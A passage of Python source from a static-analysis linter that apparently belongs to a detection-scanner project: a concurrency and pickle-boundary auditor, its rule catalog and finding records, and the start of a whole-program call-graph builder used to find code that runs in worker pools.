bugs at runtime that were all visible statically: lambda responders that
could not be pickled, a chaos transport dragging the main process's
telemetry handle across the pickle boundary, and a worker callable
bumping a shared progress counter.  This auditor finds that bug class
*before* the pool does, using the whole-program
:class:`~repro.lint.callgraph.CallGraph` to bound which code actually
runs inside workers and which classes actually cross the boundary.

Two rule families:

**RACE** — scheduling-dependent shared-state writes:

* ``RACE001`` a worker-reachable callable writes module-level state
  (``global``/``nonlocal`` declarations, or attribute/subscript writes
  whose root is a module-level or closure-captured name).  Module state
  is shared no matter which object the code ran on.
* ``RACE002`` a method running on a *shared* ``self`` — the pickled
  shard runner, a plugin singleton, the parent transport — writes a
  ``self`` attribute outside the sanctioned constructor/pickle hooks.
  Shard results must be returned and folded on the main thread in
  canonical order; writes on shard-local objects are fine and are not
  flagged (the taint bit in the call graph keeps them out).
* ``RACE003`` a closure is handed to a worker pool: an inline ``lambda``
  or a nested function with free variables passed to ``.submit``/
  ``.map``.  Closures capture main-process cells by reference; in a
  thread pool that is a data race, in a process pool a pickle error.

**PKL** — values that must cross the process-executor pickle boundary
but cannot, or should not, survive it:

* ``PKL001`` a ``lambda`` or locally-defined function is *stored* —
  assigned to an object attribute or passed into a boundary-class
  constructor — in pickle-adjacent code (a module defining a boundary
  class, or a worker-reachable function).  Local functions cannot be
  pickled; the fix is a small picklable callable class (see
  ``net/population.py``'s ``_BackgroundResponder``).
* ``PKL002`` a boundary class binds a main-process-only handle
  (``telemetry``, ``console``, ``hub``, ``tracer``) without a
  ``__getstate__`` that strips it.  Shipping the parent's telemetry
  into a worker double-counts at best and drags thread locks across
  ``spawn`` at worst; shard clones get their own handle on
  construction.
* ``PKL003`` a boundary class binds an unpicklable runtime resource —
  a ``threading`` lock/event, an open file handle, a socket, a pool —
  without stripping it in ``__getstate__``.

The clean tree must lint clean: every rule here was tuned against the
real package, and the regression corpus under ``tests/lint/fixtures/``
re-introduces the three PR-7 bugs to pin recall.
"""

from __future__ import annotations

import ast
import builtins
from pathlib import Path

from repro.lint.callgraph import (
    POOL_DISPATCH_METHODS,
    CallGraph,
    ClassInfo,
    FunctionInfo,
)
from repro.lint.findings import Finding

#: methods allowed to write `self` even on shared objects: object
#: construction and the pickle/checkpoint protocol itself
_SANCTIONED_METHODS = frozenset({
    "__init__", "__post_init__", "__getstate__", "__setstate__",
    "__reduce__", "__reduce_ex__",
})

#: attribute names that are main-process-only handles (PKL002)
_MAIN_PROCESS_HANDLES = frozenset({"telemetry", "console", "hub", "tracer"})

#: constructor calls that produce unpicklable runtime resources (PKL003)
_UNPICKLABLE_FACTORIES: dict[str, str] = {
    "threading.Lock": "a thread lock",
    "threading.RLock": "a re-entrant lock",
    "threading.Condition": "a condition variable",
    "threading.Event": "a thread event",
    "threading.Semaphore": "a semaphore",
    "threading.BoundedSemaphore": "a semaphore",
    "open": "an open file handle",
    "socket.socket": "a socket",
    "subprocess.Popen": "a child-process handle",
    "ThreadPoolExecutor": "an executor",
    "ProcessPoolExecutor": "an executor",
}


def _unparse(node: ast.AST) -> str:
    try:
        return ast.unparse(node)
    except Exception:  # pragma: no cover - exotic targets
        return "<expr>"


class ConcurrencyAuditor:
    """Whole-program RACE/PKL audit over one scanned tree."""

    def __init__(self, root: Path) -> None:
        self.root = Path(root)

    def run(self) -> list[Finding]:
        graph = CallGraph(self.root)
        findings: list[Finding] = []
        findings.extend(_RaceAuditor(graph).run())
        findings.extend(_PickleAuditor(graph).run())
        return findings


# ---------------------------------------------------------------------------
# RACE: shared-state writes reachable from worker code
# ---------------------------------------------------------------------------

class _RaceAuditor:
    def __init__(self, graph: CallGraph) -> None:
        self.graph = graph
        self.findings: list[Finding] = []

    def run(self) -> list[Finding]:
        audited_shared: set[str] = set()
        audited_any: set[str] = set()
        for ctx in self.graph.worker_contexts().values():
            fn = self.graph.function_of(ctx)
            if fn.key not in audited_any:
                audited_any.add(fn.key)
                self._audit_module_state_writes(fn)
            if ctx.shared and fn.key not in audited_shared:
                audited_shared.add(fn.key)
                self._audit_shared_self_writes(fn)
        self._audit_dispatch_closures()
        return self.findings

    # -- RACE001: module-level / captured state ------------------------------

    def _owned_names(self, fn: FunctionInfo) -> set[str]:
        owned: set[str] = set()
        for sub in ast.walk(fn.node):
            if isinstance(sub, ast.Name) and isinstance(sub.ctx, ast.Store):
                owned.add(sub.id)
            elif isinstance(
                sub, (ast.FunctionDef, ast.AsyncFunctionDef, ast.Lambda)
            ):
                # the audited def's own params, plus any nested def's
                if not isinstance(sub, ast.Lambda):
                    owned.add(sub.name)
                args = sub.args
                owned.update(
                    a.arg
                    for a in (
                        *args.posonlyargs, *args.args, *args.kwonlyargs,
                        *([args.vararg] if args.vararg else []),
                        *([args.kwarg] if args.kwarg else []),
                    )
                )
            elif isinstance(sub, ast.ExceptHandler) and sub.name:
                owned.add(sub.name)
        return owned

    def _audit_module_state_writes(self, fn: FunctionInfo) -> None:
        owned = self._owned_names(fn)
        module = self.graph.modules[fn.module]
        for node in ast.walk(fn.node):
            if isinstance(node, (ast.Global, ast.Nonlocal)):
                kind = "global" if isinstance(node, ast.Global) else "nonlocal"
                self.findings.append(Finding(
                    fn.rel, node.lineno, "RACE001",
                    f"worker-reachable callable {fn.name!r} declares "
                    f"{kind} {', '.join(node.names)}; worker results must "
                    "be returned and folded on the main thread",
                ))
                continue
            for target in _write_targets(node):
                root, through_container = _write_root(target)
                if root is None or not through_container:
                    continue
                if root.id == "self" or root.id in owned:
                    continue
                if root.id in module.module_names or root.id not in module.aliases:
                    self.findings.append(Finding(
                        fn.rel, target.lineno, "RACE001",
                        f"worker-reachable callable {fn.name!r} writes "
                        f"module or captured state {_unparse(target)!r}; "
                        "concurrent writes are scheduling-ordered — return "
                        "results and fold them on the main thread",
                    ))

    # -- RACE002: writes on a shared self ------------------------------------

    def _audit_shared_self_writes(self, fn: FunctionInfo) -> None:
        if fn.cls is None or fn.name in _SANCTIONED_METHODS:
            return
        for node in ast.walk(fn.node):
            for target in _write_targets(node):
                root, through_container = _write_root(target)
                if (
                    root is not None
                    and through_container
                    and root.id == "self"
                ):
                    self.findings.append(Finding(
                        fn.rel, target.lineno, "RACE002",
                        f"worker-shared method {fn.qualname!r} writes "
                        f"{_unparse(target)!r}; fold-owned state may only "
                        "be written by the main-thread fold in canonical "
                        "shard order",
                    ))

    # -- RACE003: closures handed to pools -----------------------------------

    def _audit_dispatch_closures(self) -> None:
        for info in self.graph.modules.values():
            for fns in (info.functions.values(), *(
                cls.methods.values() for cls in info.classes.values()
            )):
                for fn in fns:
                    self._audit_closures_in(fn)

    def _audit_closures_in(self, fn: FunctionInfo) -> None:
        local_defs = {
            sub.name: sub
            for sub in ast.walk(fn.node)
            if isinstance(sub, (ast.FunctionDef, ast.AsyncFunctionDef))
            and sub is not fn.node
        }
        for node in ast.walk(fn.node):
            if not (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr in POOL_DISPATCH_METHODS
                and node.args
            ):
                continue
            target = node.args[0]
            if isinstance(target, ast.Lambda):
                self.findings.append(Finding(
                    fn.rel, target.lineno, "RACE003",
                    f"lambda handed to a worker pool in {fn.name!r} "
                    "captures enclosing scope by reference; pass a "
                    "module-level callable and its arguments instead",
                ))
            elif (
                isinstance(target, ast.Name)
                and target.id in local_defs
                and _free_names(local_defs[target.id])
            ):
                free = ", ".join(sorted(_free_names(local_defs[target.id])))
                self.findings.append(Finding(
                    fn.rel, target.lineno, "RACE003",
                    f"nested function {target.id!r} handed to a worker "
                    f"pool closes over {free}; closures capture "
                    "main-process cells by reference — pass a module-level "
                    "callable and its arguments instead",
                ))


def _write_targets(node: ast.AST) -> list[ast.expr]:
    if isinstance(node, ast.Assign):
        targets = list(node.targets)
    elif isinstance(node, (ast.AugAssign, ast.AnnAssign)):
        targets = [node.target]
    else:
        return []
    flat: list[ast.expr] = []
    stack = targets
    while stack:
        t = stack.pop()
        if isinstance(t, (ast.Tuple, ast.List)):
            stack.extend(t.elts)
        else:
            flat.append(t)
    return flat


def _write_root(target: ast.expr) -> tuple[ast.Name | None, bool]:
    """The root name of a write target, and whether the write goes
    *through* a container/attribute (a mutation of an existing object
    rather than a local rebind)."""
    root = target
    through_container = False
    while isinstance(root, (ast.Attribute, ast.Subscript)):
        through_container = True
        root = root.value
    if not isinstance(root, ast.Name):
        return None, through_container
    return root, through_container


def _subscript_key(target: ast.expr) -> str | None:
    """``state["telemetry"]`` -> ``"telemetry"`` (else None)."""
    if (
        isinstance(target, ast.Subscript)
        and isinstance(target.slice, ast.Constant)
        and isinstance(target.slice.value, str)
    ):
        return target.slice.value
    return None


def _free_names(fn: ast.AST) -> set[str]:
    """Names a nested def reads without binding them itself (ignoring
    likely module-level references is the caller's business; any free
    name in a pool-dispatched closure is capture by reference)."""
    args = fn.args
    bound = {
        a.arg
        for a in (
            *args.posonlyargs, *args.args, *args.kwonlyargs,
            *([args.vararg] if args.vararg else []),
            *([args.kwarg] if args.kwarg else []),
        )
    }
    loads: set[str] = set()
    for node in ast.walk(fn):
        if isinstance(node, ast.Name):
            if isinstance(node.ctx, ast.Store):
                bound.add(node.id)
            else:
                loads.add(node.id)
    return {
        name for name in loads - bound
        if not hasattr(builtins, name)
    }


# ---------------------------------------------------------------------------
# PKL: values crossing the process-executor pickle boundary
# ---------------------------------------------------------------------------

class _PickleAuditor:
    def __init__(self, graph: CallGraph) -> None:
        self.graph = graph
        self.findings: list[Finding] = []
        self.boundary = graph.boundary_classes()
        #: simple names of boundary classes, for constructor-site checks
        self.boundary_names = {cls.name for cls in self.boundary.values()}
        #: modules containing a boundary class are "pickle-adjacent"
        self.adjacent_modules = {cls.module for cls in self.boundary.values()}

    def run(self) -> list[Finding]:
        for cls in sorted(self.boundary.values(), key=lambda c: c.qualname):
            self._audit_boundary_class(cls)
        self._audit_stored_lambdas()
        return self.findings

    # -- PKL002 / PKL003: boundary-class attribute hygiene -------------------

    def _audit_boundary_class(self, cls: ClassInfo) -> None:
        stripped = self._stripped_attributes(cls)
        for name in ("__init__", "__post_init__"):
            fn = cls.methods.get(name)
            if fn is None:
                continue
            for node in ast.walk(fn.node):
                for target in _write_targets(node):
                    self._audit_boundary_attribute(
                        cls, fn, node, target, stripped
                    )

    def _audit_boundary_attribute(
        self,
        cls: ClassInfo,
        fn: FunctionInfo,
        stmt: ast.AST,
        target: ast.expr,
        stripped: set[str],
    ) -> None:
        if not (
            isinstance(target, ast.Attribute)
            and isinstance(target.value, ast.Name)
            and target.value.id == "self"
        ):
            return
        attr = target.attr
        if attr in stripped:
            return
        value = getattr(stmt, "value", None)
        if attr in _MAIN_PROCESS_HANDLES:
            self.findings.append(Finding(
                cls.rel, target.lineno, "PKL002",
                f"pickle-boundary class {cls.name!r} binds main-process "
                f"handle 'self.{attr}' but its __getstate__ does not "
                "strip it; the handle crosses into worker processes — "
                "set it to None in __getstate__ and re-attach "
                "shard-locally",
            ))
        resource = self._unpicklable_resource(cls, value)
        if resource is not None:
            self.findings.append(Finding(
                cls.rel, target.lineno, "PKL003",
                f"pickle-boundary class {cls.name!r} binds {resource} to "
                f"'self.{attr}'; it cannot cross the process-executor "
                "pickle boundary — create it lazily in the worker or "
                "strip it in __getstate__",
            ))

    def _unpicklable_resource(
        self, cls: ClassInfo, value: ast.AST | None
    ) -> str | None:
        if not isinstance(value, ast.Call):
            return None
        func = value.func
        if isinstance(func, ast.Name):
            dotted = self.graph.modules[cls.module].aliases.get(
                func.id, func.id
            )
        elif isinstance(func, ast.Attribute) and isinstance(
            func.value, ast.Name
        ):
            owner = self.graph.modules[cls.module].aliases.get(
                func.value.id, func.value.id
            )
            dotted = f"{owner}.{func.attr}"
        else:
            return None
        for known, description in _UNPICKLABLE_FACTORIES.items():
            if dotted == known or dotted.endswith(f".{known}"):
                return description
        return None

    def _stripped_attributes(self, cls: ClassInfo) -> set[str]:
        """Attribute names a ``__getstate__`` anywhere in the MRO
        neutralises (``state["x"] = None``, ``del state["x"]``,
        ``state.pop("x")``)."""
        stripped: set[str] = set()
        for candidate in self.graph.mro(cls):
            fn = candidate.methods.get("__getstate__")
            if fn is None:
                continue
            for node in ast.walk(fn.node):
                if isinstance(node, ast.Assign):
                    for target in node.targets:
                        key = _subscript_key(target)
                        if key is not None:
                            stripped.add(key)
                elif isinstance(node, ast.Delete):
                    for target in node.targets:
                        key = _subscript_key(target)
                        if key is not None:
                            stripped.add(key)
                elif (
                    isinstance(node, ast.Call)
                    and isinstance(node.func, ast.Attribute)
                    and node.func.attr == "pop"
                    and node.args
                    and isinstance(node.args[0], ast.Constant)
                    and isinstance(node.args[0].value, str)
                ):
                    stripped.add(node.args[0].value)
        return stripped

    # -- PKL001: lambdas / local functions that must be pickled --------------

    def _audit_stored_lambdas(self) -> None:
        reachable_modules = {
            self.graph.function_of(ctx).module
            for ctx in self.graph.worker_contexts().values()
        }
        for info in self.graph.modules.values():
            adjacent = (
                info.name in self.adjacent_modules
                or info.name in reachable_modules
            )
            if not adjacent:
                continue
            self._audit_module_lambda_stores(info)

    def _audit_module_lambda_stores(self, info) -> None:
        for node in ast.walk(info.tree):
            # obj.attr = lambda ... / obj.attr[k] = lambda ...
            if isinstance(node, ast.Assign) and isinstance(
                node.value, ast.Lambda
            ):
                for target in node.targets:
                    root, through_container = _write_root(target)
                    if through_container and root is not None:
                        self.findings.append(Finding(
                            info.rel, node.lineno, "PKL001",
                            f"lambda stored on {_unparse(target)!r} in a "
                            "pickle-adjacent module; local functions "
                            "cannot cross the process-executor pickle "
                            "boundary — use a small picklable callable "
                            "class instead",
                        ))
            # BoundaryClass(..., responder=lambda ...)
            elif isinstance(node, ast.Call):
                func = node.func
                name = None
                if isinstance(func, ast.Name):
                    name = func.id
                elif isinstance(func, ast.Attribute):
                    name = func.attr
                if name not in self.boundary_names:
                    continue
                for arg in (*node.args, *(kw.value for kw in node.keywords)):
                    if isinstance(arg, ast.Lambda):
                        self.findings.append(Finding(
                            info.rel, arg.lineno, "PKL001",
                            f"lambda passed into pickle-boundary class "
                            f"{name!r}; local functions cannot cross the "
                            "process-executor pickle boundary — use a "
                            "small picklable callable class instead",
                        ))
