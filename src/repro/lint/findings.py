"""Finding records and the rule catalog.

Every analyzer emits :class:`Finding` values; reporters, the baseline
layer, and the telemetry counters all consume the same shape.  Findings
order and serialise deterministically — two lint runs over the same tree
must produce byte-identical reports (the subsystem audits that invariant
in others, so it holds itself to it).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass


class Severity(enum.Enum):
    """How bad a finding is; errors fail the run, the rest inform."""

    ERROR = "error"
    WARNING = "warning"
    INFO = "info"

    @property
    def rank(self) -> int:
        return {"error": 0, "warning": 1, "info": 2}[self.value]


#: rule id -> (severity, one-line description).  The DESIGN.md rule
#: catalog is generated from this table; keep the two in sync.
RULES: dict[str, tuple[Severity, str]] = {
    # -- cross-analyzer ------------------------------------------------------
    "LNT001": (Severity.ERROR,
               "source file cannot be parsed / audited at all"),
    # -- signature auditor ---------------------------------------------------
    "SIG001": (Severity.ERROR,
               "signature regex fails to compile"),
    "SIG002": (Severity.ERROR,
               "catastrophic-backtracking shape (nested unbounded "
               "quantifiers or ambiguous alternation under a repeat)"),
    "SIG003": (Severity.ERROR,
               "over-broad signature (can match the empty string or has "
               "no literal run of 4+ characters to anchor on)"),
    "SIG004": (Severity.ERROR,
               "dead signature: matches no canned page of its own "
               "application"),
    "SIG005": (Severity.ERROR,
               "cross-application overlap: signature matches another "
               "application's canned pages"),
    "SIG006": (Severity.ERROR,
               "signature corpus shape: slug unknown to the catalog or "
               "signature count is not 5"),
    # -- plugin contract auditor --------------------------------------------
    "PLG001": (Severity.ERROR,
               "plugin class does not subclass MavDetectionPlugin"),
    "PLG002": (Severity.ERROR,
               "plugin slug missing from the app catalog or the "
               "signature corpus"),
    "PLG003": (Severity.ERROR,
               "plugin class not registered in ALL_PLUGINS"),
    "PLG004": (Severity.ERROR,
               "plugin bypasses PluginContext.fetch/fetch_json (raw "
               "transport, socket, or HTTP client use)"),
    "PLG005": (Severity.ERROR,
               "bare except swallows all errors, including programming "
               "bugs"),
    "PLG006": (Severity.ERROR,
               "plugin issues state-changing requests (POST/PUT/DELETE "
               "helpers are forbidden in detection code)"),
    "PLG007": (Severity.ERROR,
               "duplicate plugin slug within the plugins package"),
    # -- determinism auditor ------------------------------------------------
    "DET001": (Severity.ERROR,
               "wall-clock read (time.time/monotonic/perf_counter, "
               "datetime.now/utcnow/today) breaks deterministic replay"),
    "DET002": (Severity.ERROR,
               "entropy source (os.urandom, uuid.uuid1/uuid4, secrets) "
               "breaks deterministic replay"),
    "DET003": (Severity.ERROR,
               "unseeded randomness (module-level random.* call or "
               "random.Random() without a seed)"),
    "DET004": (Severity.WARNING,
               "iteration over an unordered set expression can leak "
               "nondeterministic ordering into output"),
    "DET005": (Severity.ERROR,
               "worker-pool callable writes shared mutable state "
               "(self attributes, free names, global/nonlocal) outside "
               "the sanctioned main-thread shard-fold path"),
    "DET006": (Severity.ERROR,
               "unbounded loop (while True / while 1) with no structural "
               "bound; a hostile input can spin it forever — iterate a "
               "range, charge a deadline, or demand progress instead"),
    # -- observability auditor ----------------------------------------------
    "OBS001": (Severity.ERROR,
               "metric registered under a dynamically-built name "
               "(f-string, concatenation, %, or .format with non-constant "
               "parts); per-host values in metric names explode series "
               "cardinality — use a fixed name plus labels instead"),
    # -- concurrency auditor (whole-program, call-graph-bounded) -------------
    "RACE001": (Severity.ERROR,
                "worker-reachable code writes module-level or "
                "closure-captured state; concurrent writes are "
                "scheduling-ordered — return results and fold them on "
                "the main thread"),
    "RACE002": (Severity.ERROR,
                "method running on a main-process-shared object inside "
                "workers writes a self attribute; fold-owned state may "
                "only be written by the main-thread fold in canonical "
                "shard order"),
    "RACE003": (Severity.ERROR,
                "closure (lambda or nested function with free variables) "
                "handed to a worker pool; closures capture main-process "
                "cells by reference — pass a module-level callable and "
                "its arguments instead"),
    # -- pickle-boundary auditor ---------------------------------------------
    "PKL001": (Severity.ERROR,
               "lambda or locally-defined function stored where it must "
               "cross the process-executor pickle boundary; local "
               "functions cannot be pickled — use a small picklable "
               "callable class"),
    "PKL002": (Severity.ERROR,
               "pickle-boundary class binds a main-process-only handle "
               "(telemetry/console/hub/tracer) without a __getstate__ "
               "that strips it; the handle would cross into worker "
               "processes"),
    "PKL003": (Severity.ERROR,
               "pickle-boundary class binds an unpicklable runtime "
               "resource (lock, open handle, socket, executor) without "
               "stripping it in __getstate__"),
}


@dataclass(frozen=True, order=True)
class Finding:
    """One rule violation at one location.

    The natural ordering (path, line, rule, message) is the report
    order; it is independent of analyzer scheduling, so reports are
    reproducible byte for byte.
    """

    path: str          # posix path relative to the scanned root's parent
    line: int          # 1-based; 0 when the finding has no line anchor
    rule: str
    message: str

    @property
    def severity(self) -> Severity:
        return RULES[self.rule][0]

    def fingerprint(self) -> str:
        """Baseline identity: stable across unrelated line drift."""
        return f"{self.rule}:{self.path}:{self.message}"

    def to_dict(self) -> dict:
        return {
            "rule": self.rule,
            "severity": self.severity.value,
            "path": self.path,
            "line": self.line,
            "message": self.message,
        }

    def render(self) -> str:
        return f"{self.path}:{self.line}: {self.rule} [{self.severity.value}] {self.message}"


def sort_findings(findings: list[Finding]) -> list[Finding]:
    """Canonical report order, deduplicated."""
    return sorted(set(findings))
