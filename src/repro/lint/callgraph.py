"""Whole-program module/call graph for the concurrency analyzer.

The parallel engine's correctness story is a *boundary* story: code that
runs inside pool workers may not touch main-process state, and values
that cross into a process pool must survive pickling.  Both properties
are about **reachability** — not about any single function — so the
``RACE``/``PKL`` rules in :mod:`repro.lint.concurrency` need to know
which code can execute inside a worker at all.  This module builds that
map, purely from the AST (fixture trees lint without being imported,
same as every other analyzer).

The graph is deliberately an over-approximation with one taint bit:

* **Entry points** come from ``WORKER_ENTRY_POINTS`` registry tuples
  that the runtime modules themselves declare (``core/parallel.py``,
  ``core/supervisor.py``), plus two structural families: ``run`` methods
  of Tsunami plugin classes (module-level singletons shared across
  shard threads) and ``fork`` methods of transport-protocol classes
  (they execute inside workers to build shard-local universes).
  Callables handed to ``pool.submit``/``pool.map`` as ``self.method``
  are seeded too, so un-registered engines are still covered.
* **Shared-self propagation**: a context is *shared* when its ``self``
  is an object the main process also holds (the pickled/shared runner, a
  plugin singleton, the parent transport).  ``self.m()`` keeps the same
  object, so the callee inherits the bit; ``self.field.m()`` calls a
  method on a field of a shared object, which is just as shared; but a
  call on a *locally created* value (a constructor result, any call's
  return value, a parameter) starts a fresh private universe and drops
  the bit.  Only shared contexts can produce ``RACE002`` findings —
  that is what keeps the shard-local :class:`ScanPipeline` world, which
  mutates its own state freely, out of the report.
* **Name-based fan-out**: a call ``x.m()`` whose receiver class is
  unknown reaches *every* method named ``m`` in the tree (never shared
  unless rooted at ``self``).  That inflates plain reachability, which
  is safe — reachable-but-private code is only audited for writes to
  module-level state (``RACE001``), the one thing that is shared no
  matter who owns the instance.

The registry constants are plain data so this analyzer — and nothing
else — pays for them; scanning a fixture tree picks up the fixture's
own registries the same way.
"""

from __future__ import annotations

import ast
from dataclasses import dataclass, field
from pathlib import Path

#: registry names the graph consumes from scanned modules
ENTRY_REGISTRY = "WORKER_ENTRY_POINTS"
BOUNDARY_REGISTRY = "PICKLE_BOUNDARY_TYPES"

#: pool methods that take a worker callable as their first argument
POOL_DISPATCH_METHODS = frozenset({"submit", "map"})

#: the plugin base class whose subclasses' ``run`` methods execute
#: inside shard pipelines on shared singleton instances
PLUGIN_BASE = "MavDetectionPlugin"

#: the transport-protocol method that builds shard-local universes
#: inside workers (and marks its class as pickle-boundary-crossing)
FORK_METHOD = "fork"


@dataclass
class FunctionInfo:
    """One ``def``: a module-level function or a method."""

    module: str                 # dotted module name ("repro.core.parallel")
    cls: str | None             # defining class qualname, None for functions
    name: str
    node: ast.AST               # FunctionDef / AsyncFunctionDef
    rel: str                    # findings path ("repro/core/parallel.py")
    key: str = ""               # unique def identity, set at registration

    @property
    def qualname(self) -> str:
        if self.cls is None:
            return f"{self.module}.{self.name}"
        return f"{self.cls}.{self.name}"


@dataclass
class ClassInfo:
    """One ``class`` statement and its directly declared methods."""

    module: str
    name: str
    node: ast.ClassDef
    rel: str
    bases: list[str] = field(default_factory=list)   # raw base expressions
    methods: dict[str, FunctionInfo] = field(default_factory=dict)

    @property
    def qualname(self) -> str:
        return f"{self.module}.{self.name}"


@dataclass
class ModuleInfo:
    """Per-module AST summary the graph is assembled from."""

    name: str                   # dotted name
    rel: str
    tree: ast.Module
    functions: dict[str, FunctionInfo] = field(default_factory=dict)
    classes: dict[str, ClassInfo] = field(default_factory=dict)
    #: local alias -> dotted target for imports ("ShardRunner" ->
    #: "repro.core.parallel.ShardRunner", "parallel" -> "repro.core.parallel")
    aliases: dict[str, str] = field(default_factory=dict)
    #: module-level names bound by assignment (the RACE001 "module state")
    module_names: set[str] = field(default_factory=set)
    #: registry tuples declared in this module
    entry_points: list[str] = field(default_factory=list)
    boundary_types: list[str] = field(default_factory=list)
    #: files that fail to parse carry the error instead of a tree
    parse_error: str | None = None


@dataclass(frozen=True)
class Context:
    """One reachable (function, concrete receiver class, taint) triple."""

    fn_key: str                 # unique def identity
    owner: str | None           # concrete class qualname `self` belongs to
    shared: bool                # is `self` a main-process-shared object?


class CallGraph:
    """The package-wide graph plus worker reachability.

    Built once per lint run from every ``*.py`` under ``root``; the
    concurrency auditor asks it two questions — *which defs can run in a
    worker* (:meth:`worker_contexts`) and *which classes cross the
    pickle boundary* (:meth:`boundary_classes`).
    """

    def __init__(self, root: Path) -> None:
        self.root = Path(root)
        self.modules: dict[str, ModuleInfo] = {}
        self.classes: dict[str, ClassInfo] = {}
        self.methods_by_name: dict[str, list[tuple[ClassInfo, FunctionInfo]]] = {}
        self.functions: dict[str, FunctionInfo] = {}
        #: def identity -> FunctionInfo, for context bookkeeping
        self._defs: dict[str, FunctionInfo] = {}
        self._build()

    # -- construction --------------------------------------------------------

    def _rel(self, path: Path) -> str:
        return (Path(self.root.name) / path.relative_to(self.root)).as_posix()

    def _module_name(self, path: Path) -> str:
        parts = list(path.relative_to(self.root).parts)
        parts[-1] = parts[-1][: -len(".py")]
        if parts[-1] == "__init__":
            parts.pop()
        return ".".join([self.root.name, *parts]) if parts else self.root.name

    def _build(self) -> None:
        for path in sorted(self.root.rglob("*.py")):
            if "__pycache__" in path.parts:
                continue
            name = self._module_name(path)
            rel = self._rel(path)
            try:
                tree = ast.parse(path.read_text(), filename=str(path))
            except (OSError, SyntaxError) as error:
                info = ModuleInfo(name, rel, ast.Module(body=[], type_ignores=[]))
                info.parse_error = str(error)
                self.modules[name] = info
                continue
            info = ModuleInfo(name, rel, tree)
            self._index_module(info)
            self.modules[name] = info
        for info in self.modules.values():
            for cls in info.classes.values():
                self.classes[cls.qualname] = cls
                for method in cls.methods.values():
                    self.methods_by_name.setdefault(method.name, []).append(
                        (cls, method)
                    )
            for fn in info.functions.values():
                self.functions[fn.qualname] = fn

    def _index_module(self, info: ModuleInfo) -> None:
        for node in info.tree.body:
            if isinstance(node, ast.Import):
                for alias in node.names:
                    info.aliases[alias.asname or alias.name.split(".")[0]] = (
                        alias.name
                    )
            elif isinstance(node, ast.ImportFrom) and node.module:
                module = node.module
                if node.level:  # best-effort relative-import resolution
                    base = info.name.split(".")
                    module = ".".join(base[: len(base) - node.level] + [module])
                for alias in node.names:
                    info.aliases[alias.asname or alias.name] = (
                        f"{module}.{alias.name}"
                    )
            elif isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
                fn = FunctionInfo(info.name, None, node.name, node, info.rel)
                info.functions[node.name] = fn
                self._register_def(fn)
            elif isinstance(node, ast.ClassDef):
                self._index_class(info, node)
            elif isinstance(node, (ast.Assign, ast.AnnAssign)):
                self._index_assignment(info, node)

    def _index_class(self, info: ModuleInfo, node: ast.ClassDef) -> None:
        cls = ClassInfo(info.name, node.name, node, info.rel)
        for base in node.bases:
            try:
                cls.bases.append(ast.unparse(base))
            except Exception:  # pragma: no cover - exotic base expression
                continue
        for item in node.body:
            if isinstance(item, (ast.FunctionDef, ast.AsyncFunctionDef)):
                fn = FunctionInfo(
                    info.name, cls.qualname, item.name, item, info.rel
                )
                cls.methods[item.name] = fn
                self._register_def(fn)
        info.classes[node.name] = cls

    def _register_def(self, fn: FunctionInfo) -> None:
        fn.key = f"{fn.qualname}@{fn.node.lineno}"
        self._defs[fn.key] = fn

    def _index_assignment(self, info: ModuleInfo, node: ast.AST) -> None:
        targets = (
            node.targets if isinstance(node, ast.Assign) else [node.target]
        )
        for target in targets:
            if not isinstance(target, ast.Name):
                continue
            info.module_names.add(target.id)
            value = getattr(node, "value", None)
            if target.id in (ENTRY_REGISTRY, BOUNDARY_REGISTRY) and isinstance(
                value, (ast.Tuple, ast.List)
            ):
                strings = [
                    e.value
                    for e in value.elts
                    if isinstance(e, ast.Constant) and isinstance(e.value, str)
                ]
                if target.id == ENTRY_REGISTRY:
                    info.entry_points.extend(strings)
                else:
                    info.boundary_types.extend(strings)

    # -- lookups -------------------------------------------------------------

    def resolve_class(self, dotted: str) -> ClassInfo | None:
        return self.classes.get(dotted)

    def resolve_base(self, cls: ClassInfo, base: str) -> ClassInfo | None:
        """A raw base expression -> its ClassInfo, when in the tree."""
        module = self.modules[cls.module]
        head = base.split(".", 1)[0]
        if base in module.classes:
            return module.classes[base]
        target = module.aliases.get(head)
        if target is not None:
            dotted = target + base[len(head):]
            return self.classes.get(dotted)
        return self.classes.get(base)

    def mro(self, cls: ClassInfo) -> list[ClassInfo]:
        """Static linearisation: the class, then bases depth-first."""
        seen: list[ClassInfo] = []
        stack = [cls]
        while stack:
            current = stack.pop(0)
            if any(c.qualname == current.qualname for c in seen):
                continue
            seen.append(current)
            for base in current.bases:
                resolved = self.resolve_base(current, base)
                if resolved is not None:
                    stack.append(resolved)
        return seen

    def resolve_method(self, cls: ClassInfo, name: str) -> FunctionInfo | None:
        for candidate in self.mro(cls):
            if name in candidate.methods:
                return candidate.methods[name]
        return None

    def subclasses_plugin_base(self, cls: ClassInfo) -> bool:
        return any(
            base == PLUGIN_BASE or base.endswith(f".{PLUGIN_BASE}")
            for c in self.mro(cls)
            for base in c.bases
        )

    # -- entry points --------------------------------------------------------

    def registry_entry_points(self) -> list[tuple[FunctionInfo, str]]:
        """Resolved ``WORKER_ENTRY_POINTS`` entries -> (def, owner class)."""
        resolved: list[tuple[FunctionInfo, str | None]] = []
        for info in self.modules.values():
            for dotted in info.entry_points:
                hit = self._resolve_dotted_callable(dotted)
                if hit is not None:
                    resolved.append(hit)
        return resolved

    def _resolve_dotted_callable(
        self, dotted: str
    ) -> tuple[FunctionInfo, str | None] | None:
        if dotted in self.functions:
            return self.functions[dotted], None
        cls_name, _, method = dotted.rpartition(".")
        cls = self.classes.get(cls_name)
        if cls is not None:
            fn = self.resolve_method(cls, method)
            if fn is not None:
                return fn, cls.qualname
        return None

    def structural_entry_points(self) -> list[tuple[FunctionInfo, str]]:
        """Plugin ``run`` methods and transport ``fork`` methods."""
        entries: list[tuple[FunctionInfo, str]] = []
        for cls in self.classes.values():
            if FORK_METHOD in cls.methods:
                entries.append((cls.methods[FORK_METHOD], cls.qualname))
            if "run" in cls.methods and self.subclasses_plugin_base(cls):
                entries.append((cls.methods["run"], cls.qualname))
        return entries

    def dispatch_entry_points(self) -> list[tuple[FunctionInfo, str | None]]:
        """Callables handed to ``pool.submit``/``pool.map``.

        ``self.method`` targets resolve against the enclosing class (the
        object demonstrably crosses into the pool); bare names resolve to
        module functions.  Receivers we cannot type are left to DET005's
        module-local audit.
        """
        entries: list[tuple[FunctionInfo, str | None]] = []
        for info in self.modules.values():
            for cls in info.classes.values():
                for method in cls.methods.values():
                    entries.extend(
